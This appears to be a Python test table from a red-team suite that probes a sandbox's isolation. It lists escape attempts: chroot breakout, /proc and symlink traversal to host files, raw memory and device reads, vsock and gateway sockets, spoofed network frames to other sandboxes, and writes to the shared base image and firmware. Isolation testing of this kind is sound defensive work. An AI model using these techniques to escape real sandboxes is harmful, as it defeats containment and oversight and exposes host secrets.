"""Out of the machine: files of the host, its sockets, its devices. What a script can say of the token in a file of this host is what counts."""

from hatchway.redteam.attacks.attack import BLOCKED, SOURCE, Attack, table

_PATH = "facts['honey']"

ATTACKS: tuple[Attack, ...] = (
    *table("E01", "A file of this host", {
        "path": f"look({_PATH})",
        "of-all-processes": f"for one in os.listdir('/proc'):\n    if one.isdigit() and int(one) < 400: look(f'/proc/{{one}}/root' + {_PATH})",
        "working-folders": f"for one in os.listdir('/proc'):\n    if one.isdigit() and int(one) < 400: look(f'/proc/{{one}}/cwd/' + '../' * 12 + {_PATH})",
        "dots": f"look('/tmp/' + '../' * 20 + {_PATH})",
        "link": f"p = tempfile.mkdtemp() + '/l'; os.symlink({_PATH}, p); look(p)",
        "link-to-root": f"p = tempfile.mkdtemp() + '/l'; os.symlink('/proc/self/root', p); look(p + {_PATH})",
        "shared-mounts": f"for one in ('/mnt', '/media', '/host', '/shared', '/run/host', ''): look(one + {_PATH})",
        "chroot-escape": f"d = tempfile.mkdtemp(); f = os.open('/', os.O_RDONLY); os.chroot(d); os.fchdir(f); [os.chdir('..') for _ in range(30)]; os.chroot('.'); look({_PATH})",
        "mounts": f"for line in open('/proc/self/mountinfo').read().splitlines(): look(line.split()[4].rstrip('/') + {_PATH})",
    }),
    *table("E02", "A socket of this host", {
        "without-a-file": "tried.append('unix'); s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect('\\0' + facts['abstract']); s.sendall(B)",
        "port-by-hand": "by_hand(facts['here'][0], facts['port'], B)",
        "gateway-by-hand": "by_hand('10.200.0.1', facts['port'], B)",
        "port-datagram": "udp(facts['here'][0], facts['port'], B)",
        "gateway-datagram": "frame(ip4('10.200.0.1', 17, udp4('10.200.0.1', facts['port'], B)))",
        "all-ports-of-the-gateway": "for port in (facts['port'], 7070, 7071, 7080, 2375, 6443):\n    try: tcp('10.200.0.1', port, B)\n    except OSError: pass",
    }),
    *table("E03", "A device that the host shares", {
        name: f"scan_all({patterns!r})"
        for name, patterns in {
            "disks": ["/dev/vd*", "/dev/sd*", "/dev/nvme*n*", "/dev/pmem*", "/dev/mtd*", "/dev/sr*"],
            "memory": ["/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/port"],
            "pci": ["/sys/bus/pci/devices/*/resource*", "/sys/bus/pci/devices/*/rom"],
            "firmware": ["/sys/firmware/qemu_fw_cfg/by_name/*/*/raw", "/sys/firmware/qemu_fw_cfg/by_name/*/*/*/raw", "/sys/firmware/dmi/tables/*", "/sys/firmware/acpi/tables/*"],
            "user-devices": ["/dev/uio*", "/dev/vfio/*", "/dev/shm/*", "/dev/hugepages/*"],
            "modules-of-the-kernel": ["/sys/kernel/boot_params/data", "/proc/config.gz", "/proc/cmdline", "/sys/kernel/vmcoreinfo"],
        }.items()
    }),
    *table("E05", "A folder of the host, mounted", {
        "bound": f"mounted(os.path.dirname({_PATH}), '', 4096); look_below({_PATH})",
        "by-handle": f"by_handle({_PATH})",
    }),
    *table("E06", "Another sandbox, which listens to all that reaches it", {
        "broadcast": "frame(ip4('255.255.255.255', 17, udp4('255.255.255.255', 9999, B)), to=b'\\xff' * 6)",
        "multicast": "frame(ip4('224.0.0.1', 17, udp4('224.0.0.1', 9999, B)), to=b'\\1\\0\\x5e\\0\\0\\1')",
        "ipv6-all-nodes": "frame(ip6('ff02::1', 17, udp4('0.0.0.0', 9999, B), src='fe80::2'), kind=0x86dd, to=b'\\x33\\x33\\0\\0\\0\\1')",
        "its-hardware-address": "frame(ip4('10.200.0.2', 17, udp4('10.200.0.2', 9999, B, src='10.200.0.1'), src='10.200.0.1'), source=gateway_mac(), to=my_mac())",
        "next-address": "frame(ip4('10.200.0.3', 17, udp4('10.200.0.3', 9999, B)), to=b'\\xff' * 6)",
        "arp": "frame(b'\\0\\1\\x08\\0\\6\\4\\0\\1' + my_mac() + socket.inet_aton('10.200.0.2') + b'\\0' * 6 + socket.inet_aton('10.200.0.3') + B, kind=0x0806, to=b'\\xff' * 6)",
        "lease": "frame(ip4('255.255.255.255', 17, struct.pack('>HHHH', 67, 68, 8 + 15, 0) + B), to=b'\\xff' * 6)",
        "kind-of-ours": "frame(B * 4, kind=0x88b6, to=b'\\xff' * 6)",
    }, (BLOCKED, SOURCE)),
    *table("E09", "The image that all sandboxes start from, written to", {
        how: f"on_the_base({how!r}, B)" for how in ("written", "past-the-cache", "mapped", "made-writable", "by-a-loop", "zeroed", "discarded", "mounted-anew", "by-its-file", "raw-commands")
    }, (BLOCKED,), "base"),
    *table("E09", "The memory that all sandboxes start from, written to", {
        "memory": "in_memory(B)",
        "memory-given-back": "in_memory(B, given_back=True)",
    }, (BLOCKED,), "base"),
    *table("E10", "Sockets of the monitor", {
        f"vsock-{name}": f"by_vsock({number}, B)" for name, number in (("host", 2), ("own", 1), ("hypervisor", 0), ("any", 0xffffffff))
    }),
    *table("E10", "Ports of the monitor's devices", {
        "other-ports": "by_ports(B)",
        "console": "by_console(B)",
        "firmware-writes": "tried.append('fw_cfg')\nfor path in glob.glob('/sys/firmware/qemu_fw_cfg/**/raw', recursive=True) + ['/dev/mem', '/dev/port', '/dev/nvram']:\n    try: open(path, 'r+b', buffering=0).write(B)\n    except OSError: pass\nby_unix(facts.get('monitor', ''), B)",
    }),
)  # fmt: skip
